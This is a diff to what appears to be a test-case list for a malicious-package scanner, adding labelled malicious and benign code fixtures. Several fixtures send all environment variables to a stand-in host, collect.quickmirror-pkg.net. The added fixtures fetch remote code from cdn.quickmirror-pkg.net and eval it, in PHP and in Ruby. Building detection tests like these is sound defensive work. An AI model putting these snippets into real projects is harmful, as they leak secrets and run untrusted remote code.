@@ -235,4 +235,7 @@ export const PROBE: ProbeCase[] = [
   mal('env-send', 'env-req-write', { 'index.js': "const https = require('https');\nconst req = https.request({ host: 'collect.quickmirror-pkg.net', method: 'POST', path: '/e' });\nreq.write(JSON.stringify(process.env));\nreq.end();\n" }),
   mal('env-send', 'env-subprocess-curl', { 'scripts/r.py': "import os, json, subprocess\nsnap = json.dumps({**os.environ})\nsubprocess.run(['curl', '-s', '-d', snap, 'https://collect.quickmirror-pkg.net/e'])\n" }),
   ok('env-send', 'env-child-write', { 'index.js': "const child = spawn('tool', [], { env: { ...process.env, X: '1' } });\nchild.stdin.write(JSON.stringify({ q: 1 }));\nawait fetch('https://api.example.com/v1/ping');\n" }),
+  mal('code-flow', 'php-fgc-eval', { 'scripts/a.php': "<?php\n$code = file_get_contents('https://cdn.quickmirror-pkg.net/p.txt');\neval($code);\n" }),
+  mal('code-flow', 'ruby-net-http-eval', { 'scripts/a.rb': "require 'net/http'\nsrc = Net::HTTP.get(URI('https://cdn.quickmirror-pkg.net/p.rb'))\neval(src)\n" }),
+  ok('code-flow', 'php-local-config', { 'scripts/a.php': "<?php\n$cfg = file_get_contents(__DIR__ . '/config.json');\n$data = json_decode($cfg, true);\n$page = file_get_contents('https://api.example.com/v1/x');\necho strlen($page);\n" }),
 ];
